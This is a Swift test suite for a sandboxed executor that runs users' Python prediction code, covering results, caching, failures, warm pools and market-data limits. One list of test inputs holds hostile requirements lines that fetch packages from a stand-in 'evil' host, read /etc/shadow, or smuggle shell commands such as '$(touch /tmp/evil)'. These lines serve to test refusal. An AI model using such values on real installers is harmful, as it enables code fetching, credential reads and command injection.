import Contracts
import Cryptography
import JobWorker
import ServiceRuntime
import TestSupport
import Testing

@testable import executor

/// A job from its claim to its result, with everything but the other services being real.
@Suite(.serialized) struct SignalRunHandlerTests {
    private static let app = """
        from auspex import signal, Prediction
        @signal
        def predict(context):
            print("as of", context.as_of_microseconds)
            return Prediction(1 if context.bars().close[-1] > context.bars().close[0] else -1)
        """

    func withExecutor(
        classes: [ResourceClass: Int] = [.signal: 2],
        further: (SandboxFixture) -> [any JobHandler] = { _ in [] },
        uv: String? = nil,
        index: PackageIndex = PackageIndex(environment: [:]) { _ in nil },
        _ body: (FakePlatform) async throws -> Void
    ) async throws {
        try await withExecutor(classes: classes, further: further, uv: uv, index: index) { platform, _, _ in try await body(platform) }
    }

    private func withExecutor(
        classes: [ResourceClass: Int] = [.signal: 2],
        further: (SandboxFixture) -> [any JobHandler] = { _ in [] },
        uv: String? = nil,
        index: PackageIndex = PackageIndex(environment: [:]) { _ in nil },
        _ body: (FakePlatform, SignalRunHandler, WarmPool) async throws -> Void
    ) async throws {
        let fixture = try await SandboxFixture.shared.get()
        let platform = try await FakePlatform()
        let root = SandboxFixture.temporaryFolder
        let codeCache = DiskCache(root: root + "/code", capacityBytes: 1 << 30, cpu: fixture.cpu)
        let environments = EnvironmentStore(
            root: root + "/environments",
            capacityBytes: 1 << 30,
            uv: uv,
            index: index,
            sandbox: fixture.sandbox,
            cpu: fixture.cpu
        )
        try codeCache.prepare()
        try environments.prepare()
        let pool = WarmPool(bounds: WarmPool.Bounds(memoryBytes: 1 << 30, count: 8), loop: fixture.loops.control)
        let handler = SignalRunHandler(
            inputs: RunInputs(signals: platform.client("signals"), marketdata: platform.client("marketdata"), time: SystemTimeSource()),
            code: CodeTree(cache: codeCache, cpu: fixture.cpu),
            environments: environments,
            pythons: try await PythonInterpreter.discover(in: fixture.sandbox),
            sandbox: fixture.sandbox,
            runtime: fixture.runtime,
            cpu: fixture.cpu,
            pool: pool,
            resources: ResourceManager(plan: try CapacityPlan(settings: CapacitySettings(), machine: .plenty, gpus: 0))
        )
        let worker = JobWorker(
            worker: "executor-test",
            scheduler: platform.client("scheduler"),
            classes: classes,
            handlers: [handler, NoopHandler()] + further(fixture),
            wakeups: platform,
            control: fixture.loops.control,
            loops: fixture.loops.serving,
            grace: .milliseconds(100)
        )
        do {
            try await worker.start()
            try await body(platform, handler, pool)
        } catch {
            await worker.stop()
            await pool.stop()
            throw error
        }
        await worker.stop()
        await pool.stop()
        await platform.stop()
        FileTree.remove(root)
    }

    func finished(_ platform: FakePlatform, _ attempt: AttemptID) async throws -> FinishedJob {
        try await eventuallyValue(timeout: .seconds(120)) { platform.read { $0.finished.first { $0.attemptID == attempt } } }
    }

    @Test func aRunGivesTheWholeResult() async throws {
        try await withExecutor { platform in
            let attempt = try platform.enqueue(["app.py": Self.app])
            let finished = try await finished(platform, attempt)
            #expect(finished.outcome == .completed, "\(finished)")
            let result = try WireJSON.decode(SignalRunResult.self, from: try #require(finished.result))
            #expect(result.rows.map(\.value) == [.single(DecimalText(units: 1))])
            #expect(result.dataSHA256 == SHA256.digest(utf8: "revisions"))
            #expect(result.referencePrices == ["BTCUSD": Price(DecimalText(units: 64975, scale: 2))])
            #expect(result.asOf == SandboxFixture.asOf && result.python.hasPrefix("3."))
            #expect(Set(result.stagesMs.keys) == ["bars", "code", "environment", "start", "sandbox", "import", "predict"])
            #expect(finished.log == "as of \(SandboxFixture.asOf.microseconds)\n" && !finished.logTruncated)
            #expect(finished.cpuSeconds > 0 && finished.memoryPeakBytes > 0)
            let query = try #require(platform.read { $0.barsQueries.first })
            #expect(
                query == [
                    "instrument": "BTCUSD", "interval": "15s", "countback": "200", "as_of": SandboxFixture.asOf.iso8601, "format": "binary",
                ]
            )
            #expect(platform.read { $0.jobTokens } == ["the-job-token"])
        }
    }

    @Test func thePriceOfAnInstrumentThatIsNoInputIsAskedFor() async throws {
        let app = "from auspex import Prediction\ndef predict(context):\n    return Prediction(1)\n"
        try await withExecutor { platform in
            for (symbol, price) in [("BTCUSD", DecimalText(units: 600)), ("ETHUSD", nil)] {
                let output = ManifestOutput(kind: .direction, instrument: symbol, horizonSeconds: 60)
                let attempt = try platform.enqueue(["app.py": app], output: output, inputs: [])
                let finished = try await finished(platform, attempt)
                let result = try WireJSON.decode(SignalRunResult.self, from: try #require(finished.result, "\(finished)"))
                #expect(result.referencePrices[symbol]?.value == price)
                #expect(result.rows.map(\.instrument) == [symbol])
            }
        }
    }

    @Test func codeIsFetchedOnceForManyRuns() async throws {
        try await withExecutor { platform in
            let attempts = try (0..<4).map { _ in try platform.enqueue(["app.py": Self.app, "data/table.csv": "1,2\n"]) }
            for attempt in attempts { #expect(try await finished(platform, attempt).outcome == .completed) }
            #expect(platform.read { $0.blobRequests } == 2)
        }
    }

    @Test func failuresCarryTheirKindAndWords() async throws {
        try await withExecutor { platform in
            let cases: [(files: [String: String], python: String, inputs: [ManifestInput], kind: FailureKind, words: String)] = [
                (["app.py": "raise ValueError('broken model')"], "3.11", [], .exception, "ValueError: broken model"),
                (["app.py": Self.app, "requirements.txt": "-r /etc/passwd"], "3.11", [], .policy, "requirements.txt line 1"),
                (["app.py": Self.app, "requirements.txt": "numpy"], "3.11", [], .infra, "AUSPEX_UV"),
                (["app.py": Self.app], "2.7", [], .policy, "asks for Python 2.7"),
                (["app.py": Self.app], "3.99", [], .infra, "asks for Python 3.99"),
                (
                    ["app.py": Self.app], "3.11", [ManifestInput(instrument: "NOPE", interval: "15s", lookback: 5)], .exception,
                    "bars of NOPE 15s"
                ),
            ]
            for item in cases {
                let attempt = try platform.enqueue(item.files, python: item.python, inputs: item.inputs)
                let finished = try await finished(platform, attempt)
                #expect(finished.outcome == .failed && finished.failureKind == item.kind, "\(finished)")
                #expect(finished.errorMessage?.contains(item.words) == true, "\(finished.errorMessage ?? "")")
            }
        }
    }

    /// Another executor may have it, and is given two chances; that nobody has it is the version's fault, which pauses its schedule.
    @Test func aPythonThatIsNotHereIsTheVersionsFaultInTheEnd() async throws {
        try await withExecutor { platform in
            for (attempt, kind) in [(2, FailureKind.infra), (3, .policy), (4, .policy)] {
                let finished = try await finished(platform, try platform.enqueue(["app.py": Self.app], python: "3.99", attempt: attempt))
                #expect(finished.outcome == .failed && finished.failureKind == kind, "\(finished)")
            }
        }
    }

    /// What would reach beyond the index, the version's files or the line, were it handed to an installer as it is.
    private static let hostileRequirements = [
        "-r /etc/shadow", "-c http://evil/constraints.txt", "--index-url http://evil/simple", "--extra-index-url=http://evil", "--find-links /tmp",
        "--trusted-host evil", "-e .", "-e git+https://evil/x.git", "numpy @ https://evil/numpy.whl", "evil @ file:///etc/passwd", "./evil",
        "../evil.whl", "/tmp/evil.whl", "git+ssh://evil/x", "file:///etc/shadow", "numpy\\\n--index-url http://evil",
        "numpy --hash=sha256:0 --no-binary :all:",
        "$(touch /tmp/evil)", "`id`", "numpy; import os", "numpy\u{0}evil", "numpy\r--index-url http://evil", "\u{1b}[2Jnumpy", "numpy\u{2028}-r x",
        "n\u{0443}mpy @ x", "--", "-", "@/etc/passwd", "%2e%2e/evil", "${HOME}/evil", "~/evil",
    ]

    @Test func requirementsThatReachOutAreRefusedBeforeAnythingIsInstalled() async throws {
        try await withExecutor { platform in
            for line in Self.hostileRequirements {
                let attempt = try platform.enqueue(["app.py": Self.app, "requirements.txt": line + "\n"], inputs: [])
                let finished = try await finished(platform, attempt)
                #expect(finished.outcome == .failed && finished.failureKind == .policy, "\(line.debugDescription): \(finished)")
                let words = finished.errorMessage ?? ""
                #expect(words.contains("line") && !words.contains("root:"), "\(words)")
                #expect(!words.unicodeScalars.contains { HarmlessText.isDangerous($0) }, "\(words.debugDescription)")
            }
        }
    }

    @Test func aMissingFileIsOurFault() async throws {
        try await withExecutor { platform in
            let attempt = try platform.enqueue(["app.py": "# lost\n" + Self.app], storesFiles: false)
            let finished = try await finished(platform, attempt)
            #expect(finished.failureKind == .infra && finished.errorMessage?.contains("not in the store") == true, "\(finished)")
        }
    }

    @Test func aStoreThatIsBusyIsWaitedForAndCostsNoAttempt() async throws {
        let platform = try await FakePlatform()
        let time = ManualTimeSource()
        let inputs = RunInputs(signals: platform.client("signals"), marketdata: platform.client("marketdata"), time: time)
        let bytes = Array("weights".utf8)
        platform.change { ($0.blobs[SHA256.digest(bytes)], $0.busyAnswers) = (bytes, 2) }
        let fetching = Task { try await inputs.file(SHA256.digest(bytes), jobToken: "the-job-token") }
        for _ in 0..<2 {
            #expect(try await time.fellAsleep.next() == .seconds(2))
            time.advance(by: .seconds(2))
        }
        #expect(try await fetching.value == bytes)
        #expect(platform.read { $0.blobRequests } == 3)
        await platform.stop()
    }

    @Test func barsThatMustWaitTheirTurnCostNoAttempt() async throws {
        let platform = try await FakePlatform()
        let time = ManualTimeSource()
        let inputs = RunInputs(signals: platform.client("signals"), marketdata: platform.client("marketdata"), time: time)
        platform.change { $0.busyAnswers = 1 }
        let input = ManifestInput(instrument: "BTCUSD", interval: "15s", lookback: 20)
        let manifest = Manifest(name: "test", python: "3.11", schedule: .interval(seconds: 60), inputs: [input], output: SandboxFixture.output)
        let fetching = Task { try await inputs.bars(manifest, asOf: SandboxFixture.asOf, jobToken: "the-job-token") }
        #expect(try await time.fellAsleep.next() == .seconds(2))
        time.advance(by: .seconds(2))
        #expect(try await fetching.value.series.count == 1)
        #expect(platform.read { $0.barsQueries.count } == 2)
        await platform.stop()
    }

    @Test func theTimeLimitOfTheJobHolds() async throws {
        try await withExecutor { platform in
            let attempt = try platform.enqueue(["app.py": "while True: pass"], timeLimitSeconds: 1)
            let finished = try await finished(platform, attempt)
            #expect(finished.failureKind == .timeLimit && finished.errorMessage == "the run took longer than 1 s")
        }
    }

    // MARK: Warm

    private static func request(_ files: [String: String], _ account: AccountID) -> WarmRequest {
        let code = files.sorted { $0.key < $1.key }
            .map { CodeFile(path: $0.key, sha256: SHA256.digest(utf8: $0.value), bytes: Int64($0.value.utf8.count)) }
        let version = SHA256.digest(utf8: "version")
        return WarmRequest(
            key: WarmKey(accountID: account, signalID: FakePlatform.signal, versionSHA256: version, files: code, resourceClass: .small),
            dueAt: Timestamp.now() + .seconds(600),
            files: code,
            manifest: Manifest(name: "test", schedule: .interval(seconds: 3600), inputs: [], output: SandboxFixture.output),
            jobToken: "the-announcement"
        )
    }

    @Test func aRunFindsTheSandboxThatWaitsForIt() async throws {
        try await withExecutor { platform, handler, pool in
            let files = ["app.py": "print('imported')\n" + Self.app]
            platform.change { $0.blobs[SHA256.digest(utf8: files["app.py"] ?? "")] = Array((files["app.py"] ?? "").utf8) }
            let account = AccountID.make()
            handler.want([Self.request(files, account)])
            try await eventually { pool.size.idle == 1 }
            for isWarm in [true, false] {
                let finished = try await finished(platform, try platform.enqueue(files, account: account))
                let result = try WireJSON.decode(SignalRunResult.self, from: try #require(finished.result, "\(finished)"))
                #expect(result.stagesMs.keys.contains("warm") == isWarm && result.stagesMs.keys.contains("start") == !isWarm)
                #expect(finished.log == "imported\nas of \(SandboxFixture.asOf.microseconds)\n")
                #expect(result.rows.count == 1 && result.envSHA256 != result.dataSHA256)
            }
            #expect(platform.read { $0.jobTokens }.contains("the-announcement"))
            #expect(platform.read { $0.blobRequests } == 1)
        }
    }

    /// What its author waits for would take it from the run of the schedule.
    @Test(arguments: [JobKind.dryRun, .backfillRun]) func onlyARunOfTheScheduleTakesWhatWasWarmedForIt(_ kind: JobKind) async throws {
        try await withExecutor { platform, handler, pool in
            let (files, account) = (["app.py": Self.app], AccountID.make())
            platform.change { $0.blobs[SHA256.digest(utf8: Self.app)] = Array(Self.app.utf8) }
            handler.want([Self.request(files, account)])
            try await eventually { pool.size.idle == 1 }
            let finished = try await finished(platform, try platform.enqueue(files, kind: kind, account: account))
            let result = try WireJSON.decode(SignalRunResult.self, from: try #require(finished.result, "\(finished)"))
            #expect(result.stagesMs.keys.contains("start") && !result.stagesMs.keys.contains("warm"))
            #expect(pool.size.idle == 1)
        }
    }

    /// What the kernel took from it while it waited it would have had in its run: the run starts cold.
    @Test func whatWasKilledAtTheLimitOfWaitingIsNotHeldAgainstTheRun() async throws {
        let app =
            """
            import os
            child = os.fork()
            if child == 0:
                room = bytearray(200 << 20)
                os._exit(0)
            print("child", os.waitpid(child, 0)[1])

            """ + Self.app
        try await withExecutor { platform, handler, pool in
            guard handler.sandbox.host.level == .full, handler.sandbox.host.cgroups.allSatisfy({ $0.option == "--cgroup-v1" }) else { return }
            let (files, account) = (["app.py": app], AccountID.make())
            platform.change { $0.blobs[SHA256.digest(utf8: app)] = Array(app.utf8) }
            handler.want([Self.request(files, account)])
            try await eventually { pool.size.idle == 1 }
            let finished = try await finished(platform, try platform.enqueue(files, account: account))
            let result = try WireJSON.decode(SignalRunResult.self, from: try #require(finished.result, "\(finished)"))
            #expect(pool.size.idle == 0)
            #expect(result.stagesMs.keys.contains("start") && !result.stagesMs.keys.contains("warm"))
            #expect(finished.log?.hasPrefix("child 0\n") == true, "\(finished.log ?? "")")
        }
    }

    @Test func aSandboxWaitsForItsOwnAccountAndVersionOnly() async throws {
        try await withExecutor { platform, handler, pool in
            let (files, account) = (["app.py": Self.app], AccountID.make())
            platform.change { $0.blobs[SHA256.digest(utf8: Self.app)] = Array(Self.app.utf8) }
            handler.want([Self.request(files, account)])
            try await eventually { pool.size.idle == 1 }
            for attempt in [try platform.enqueue(files), try platform.enqueue(["app.py": Self.app + "\n"], account: account)] {
                let finished = try await finished(platform, attempt)
                let result = try WireJSON.decode(SignalRunResult.self, from: try #require(finished.result, "\(finished)"))
                #expect(!result.stagesMs.keys.contains("warm"))
            }
            #expect(pool.size.idle == 1)
        }
    }

    @Test func aSignalThatIsDueAgainSoonIsWarmedAgain() async throws {
        try await withExecutor { platform, _, pool in
            let account = AccountID.make()
            _ = try await finished(platform, try platform.enqueue(["app.py": Self.app], account: account))
            #expect(pool.size.count == 0)
            let again = { try platform.enqueue(["app.py": Self.app], account: account, schedule: .interval(seconds: 60), dueAt: Timestamp.now()) }
            _ = try await finished(platform, try again())
            try await eventually { pool.size.idle == 1 }
            let finished = try await finished(platform, try again())
            let result = try WireJSON.decode(SignalRunResult.self, from: try #require(finished.result, "\(finished)"))
            #expect(result.stagesMs.keys.contains("warm"))
        }
    }

    @Test func whatTheSchedulerAnnouncesIsWarmed() async throws {
        try await withExecutor { platform, handler, pool in
            let (files, account) = (["app.py": Self.app], AccountID.make())
            platform.change { $0.blobs[SHA256.digest(utf8: Self.app)] = Array(Self.app.utf8) }
            let request = Self.request(files, account)
            let fixture = try await SandboxFixture.shared.get()
            let announcements = Announcements(
                worker: "executor-test",
                scheduler: platform.client("scheduler"),
                handler: handler,
                pool: pool,
                cpu: fixture.cpu,
                loop: fixture.loops.control,
                time: SystemTimeSource()
            )
            #expect(await announcements.ask() == Announcements.periodWithout)
            platform.change {
                $0.announcements = [
                    Announcement(
                        scheduleID: ScheduleID.make(),
                        signalID: request.signalID,
                        accountID: account,
                        dueAt: request.dueAt,
                        versionID: SignalVersionID.make(),
                        versionSHA256: request.key.versionSHA256,
                        files: request.files,
                        manifest: request.manifest,
                        token: "announced"
                    )
                ]
            }
            #expect(await announcements.ask() == Announcements.period)
            try await eventually { pool.size.idle == 1 }
            #expect(platform.read { $0.jobTokens } == ["announced"])
            let finished = try await finished(platform, try platform.enqueue(files, account: account))
            let result = try WireJSON.decode(SignalRunResult.self, from: try #require(finished.result, "\(finished)"))
            #expect(result.stagesMs.keys.contains("warm"))
        }
    }

    // MARK: More bars

    @Test func theCodeGetsMoreBarsAndTheRecordSaysWhich() async throws {
        let app = """
            import auspex
            def predict(context):
                days = auspex.bars("BTCUSD", "1d", lookback=3)
                hours = auspex.bars("BTCUSD", "1h", start="2016-10-08T06:00:00+00:00", end=context.as_of)
                print(len(days), days.interval, len(hours), days.close[-1])
                return auspex.Prediction(1)
            """
        try await withExecutor { platform in
            let finished = try await finished(platform, try platform.enqueue(["app.py": app]))
            let result = try WireJSON.decode(SignalRunResult.self, from: try #require(finished.result, "\(finished)"))
            #expect(finished.log == "3 1d 5 600.5\n")
            let digests = ["revisions", "revisions of 1d", "revisions of 1h"].map { SHA256.digest(utf8: $0) }
            #expect(result.reads?.map(\.interval) == ["1d", "1h"])
            #expect(result.reads?.first?.lookback == 3 && result.reads?.last?.end == SandboxFixture.asOf)
            #expect(result.reads?.map(\.dataSHA256) == Array(digests.dropFirst()))
            #expect(result.dataSHA256 == RunInputs.combined(digests))
            let asked = platform.read { $0.barsQueries }.filter { $0["interval"] != "15s" }
            #expect(asked.allSatisfy { $0["as_of"] == SandboxFixture.asOf.iso8601 } && asked.count == 2)
        }
    }

    @Test func whatTheRunMayNotReadIsRefusedWithWords() async throws {
        let cases = [
            ("'ETHUSD', '1d'", "unknown_instrument", "the manifest does not list 'ETHUSD'; this run may read BTCUSD"),
            ("'BTCUSD', '1m', end=context.as_of_microseconds + 1", "after_as_of", "knows nothing after 2016-10-08T12:01:00"),
            ("'BTCUSD', '1m', start=context.as_of_microseconds", "bad_request", "does not lie before end"),
            ("'BTCUSD', '1m', lookback=50001", "bad_request", "1 to 50000"),
            ("'BTCUSD', '1m', start=1 << 62", "", "outside the years"),
        ]
        let calls = cases.map { "attempt(lambda: auspex.bars(\($0.0)))" }.joined(separator: "\n    ")
        let app = """
            import auspex
            def attempt(call):
                try: print("got", call())
                except auspex.BarsRefused as error: print(error.code, error)
                except ValueError as error: print(error)
            def predict(context):
                \(calls)
            """
        try await withExecutor { platform in
            let finished = try await finished(platform, try platform.enqueue(["app.py": app]))
            let lines = (finished.log ?? "").split(separator: "\n")
            #expect(lines.count == cases.count, "\(finished)")
            for (line, item) in zip(lines, cases) { #expect(line.contains(item.1) && line.contains(item.2), "\(line)") }
            #expect(platform.read { $0.barsQueries.count } == 1)
        }
    }

    @Test func aRunAsksAHundredTimesAndNoMore() async throws {
        let app = """
            import auspex
            def predict(context):
                for number in range(101):
                    auspex.bars("BTCUSD", "1d", lookback=1)
            """
        try await withExecutor { platform in
            let finished = try await finished(platform, try platform.enqueue(["app.py": app]))
            #expect(finished.failureKind == .exception && finished.errorMessage?.contains("100 times") == true, "\(finished)")
        }
    }

    /// Away, or with a token that is not taken: code that was told so could predict something else.
    @Test(arguments: ["7s", "8s", "9s"]) func marketDataThatIsAwayIsOurFault(_ interval: String) async throws {
        let app = """
            import auspex
            def predict(context):
                try: auspex.bars("BTCUSD", "\(interval)", lookback=1)
                except Exception: return auspex.Prediction(1)
            """
        try await withExecutor { platform in
            let finished = try await finished(platform, try platform.enqueue(["app.py": app]))
            #expect(finished.failureKind == .infra && finished.errorMessage?.contains("bars of BTCUSD \(interval)") == true, "\(finished)")
        }
    }

    @Test func aPriceThatWasNotAskedForRightlyIsNotDoneWithout() async throws {
        try await withExecutor { platform in
            platform.change { $0.refusesTokens = true }
            let app = "from auspex import Prediction\ndef predict(context):\n    return Prediction(1)\n"
            let finished = try await finished(platform, try platform.enqueue(["app.py": app], inputs: []))
            #expect(finished.outcome == .failed && finished.failureKind == .infra, "\(finished)")
        }
    }

    @Test func whoWaitsForBusyMarketDataIsNotTooSlow() async throws {
        let app = """
            import auspex
            def predict(context):
                auspex.bars("BTCUSD", "1d", lookback=1)
            """
        try await withExecutor { platform in
            platform.change { $0.busyIntervals = ["1d"] }
            // Time enough to be imported and to have asked, and less than it would wait for an answer.
            let finished = try await finished(platform, try platform.enqueue(["app.py": app], timeLimitSeconds: 10))
            #expect(finished.failureKind == .infra, "\(finished)")
        }
    }

    @Test func busyMarketDataIsNotAskedForEver() async throws {
        let platform = try await FakePlatform()
        let time = ManualTimeSource()
        let inputs = RunInputs(signals: platform.client("signals"), marketdata: platform.client("marketdata"), time: time)
        platform.change { $0.busyIntervals = ["1d"] }
        let range = BarsRange(instrument: "BTCUSD", interval: "1d", lookback: 1)
        let fetching = Task {
            try await inputs.bars(range, asOf: SandboxFixture.asOf, jobToken: "the-job-token", patience: RunInputs.patienceDuringRun)
        }
        for _ in 0..<10 {
            #expect(try await time.fellAsleep.next() == .seconds(2))
            time.advance(by: .seconds(2))
        }
        let obstacle = await #expect(throws: RunObstacle.self) { try await fetching.value }
        #expect(obstacle?.kind == .infra && obstacle?.isRefusal == false)
        #expect(platform.read { $0.barsQueries.count } == 11)
        await platform.stop()
    }
}
